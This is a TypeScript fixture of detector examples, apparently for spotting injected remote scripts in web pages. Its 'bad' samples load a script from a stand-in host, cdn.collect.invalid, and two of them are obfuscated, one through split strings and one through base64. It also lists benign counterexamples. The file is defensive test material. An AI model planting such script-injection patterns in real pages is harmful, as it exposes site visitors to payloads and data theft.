import type { DetectorExamples } from '../detector.ts';

const attributes = { destination: 'cdn.collect.invalid' } as const;

export const examples: DetectorExamples = {
  bad: [
    {
      code: "const s = document.createElement('script'); s.async = true; s.src = 'https://cdn.collect.invalid/a.js'; document.head.appendChild(s);",
      why: 'an element with a source',
      attributes,
    },
    {
      code: "document.write('<scr' + 'ipt src=\"//cdn.collect.invalid/a.js\"></scr' + 'ipt>');",
      why: 'written into the page, in pieces',
      attributes,
    },
    {
      code: "var d = document, el = d.createElement('script'); el.setAttribute('src', atob('aHR0cHM6Ly9jZG4uY29sbGVjdC5pbnZhbGlkL2EuanM='));",
      why: 'by its attribute, hidden in base64',
      attributes,
    },
  ],
  good: [
    {
      code: "const i = document.createElement('img'); i.src = 'https://cdn.acme.example/a.png';",
      why: 'a picture',
    },
    {
      code: "const s = document.createElement('script'); s.src = url; s.src = './own.js';",
      why: 'the caller decides, and its own file',
    },
    { code: 'stream.write(\'<script src="/app.js"></script>\');', why: 'its own page' },
  ],
};
